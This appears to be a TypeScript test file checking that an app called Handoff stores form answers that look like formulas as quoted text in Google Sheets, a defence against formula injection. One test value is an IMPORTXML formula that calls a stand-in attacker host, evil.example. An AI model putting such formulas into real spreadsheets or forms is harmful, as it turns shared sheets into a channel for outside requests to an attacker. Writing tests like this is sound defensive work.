/**
 * Form answers that look like formulas (=, +, -, @) land as that text in every tab Handoff writes, with Sheets'
 * quote prefix, never as a formula: a new response, the requester's edit of it, and a second response.
 */
import { RITA } from '../fixtures';
import { intakeWorld, valid } from './helpers';

const EQ = '=IMPORTXML("https://evil.example/","//a")';
const PLUS = '+SUM(1,2)';
const MINUS = '-2+3';
const AT = '@SUM(1,2)';

describe('intake: formula-looking answers are stored as text', () => {
  it('in the request and every other tab Handoff writes', () => {
    const t = intakeWorld();
    const link = t.generate();
    const ok = t.w.forms.submitAs(link.formId, RITA, { ...valid, Item: EQ, Justification: PLUS });
    expect(ok.runs[0]!.result).toMatchObject({ status: 'created' });
    // The requester edits the response before any decision: the request takes the new answers.
    const edit = t.w.forms.editAs(ok.responseId, { Item: MINUS, Justification: AT });
    expect(edit.runs[0]!.ok).toBe(true);
    const again = t.w.forms.submitAs(link.formId, RITA, { ...valid, Item: AT });
    expect(again.runs[0]!.result).toMatchObject({ status: 'created' });

    const ss = t.ws.sheets.toJSON().spreadsheets.find((x) => x.id === t.spreadsheetId)!;
    const held = ss.sheets.flatMap((sh) =>
      sh.rows.flatMap((row) =>
        (row ?? []).flatMap((c) => {
          const text = typeof c?.v === 'string' ? c.v : (c?.f ?? null);
          return text !== null && [EQ, PLUS, MINUS, AT].includes(text)
            ? [{ tab: sh.name, text, quoted: c?.q === true, formula: c?.f !== undefined }]
            : [];
        }),
      ),
    );
    const handoffTabs = held.filter((c) => !/^Form Responses/.test(c.tab));
    expect(handoffTabs.filter((c) => !c.quoted || c.formula)).toEqual([]);
    const where = new Set(handoffTabs.map((c) => `${c.tab}: ${c.text}`));
    expect([...where]).toEqual(expect.arrayContaining([`Requests: ${MINUS}`, `Requests: ${AT}`]));
  });
});
